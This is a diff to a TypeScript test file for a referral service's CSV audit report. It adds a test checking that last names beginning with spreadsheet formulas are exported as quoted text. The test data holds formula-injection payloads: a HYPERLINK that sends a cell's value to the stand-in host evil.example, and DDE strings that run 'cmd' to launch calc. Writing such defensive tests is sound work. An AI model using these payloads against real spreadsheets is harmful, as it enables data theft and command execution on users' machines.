@@ -1,4 +1,5 @@
 import { expect } from 'chai';
+import { parse } from 'csv-parse/sync';
 import { spawnSync } from 'node:child_process';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -91,6 +92,21 @@ describe('referral-service audit report', () => {
     const html = readFileSync(out, 'utf8');
     expect(html).to.include('is the CSV report: <code>audit report</code> with the same options and an <code>--out</code> file ending in <code>.csv</code>.');
     expect(html).to.not.match(/<td>—<\/td>|id="full-csv"/);
+  });
+
+  it('when a name starts a formula, then the CSV file holds it as text for a spreadsheet', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", 'Dupont-Martin'];
+    const named = givenService(practitionersAround(5, PARIS_2E, 'pediatrie').map((practitioner, i) => ({ ...practitioner, lastName: formulas[i] as string })));
+    try {
+      await makeReferral(named.services.referralContext, { specialty: 'pediatrie', location: PARIS_2E });
+      const out = join(named.dir, 'report.csv');
+      const run = cli('audit', 'report', '--database', join(named.dir, 'referrals.sqlite'), '--from', '2026-11-23', '--out', out);
+      expect(run.status, run.stderr).to.equal(0);
+      const names = (parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[]).map((row) => row.name);
+      expect(names).to.have.members([...formulas.slice(0, 4).map((formula) => `'${formula.toUpperCase()} Claire`), 'DUPONT-MARTIN Claire']);
+    } finally {
+      named.close();
+    }
   });
 
   it('when the day is malformed or not in the calendar, then it exits 2 saying so', () => {
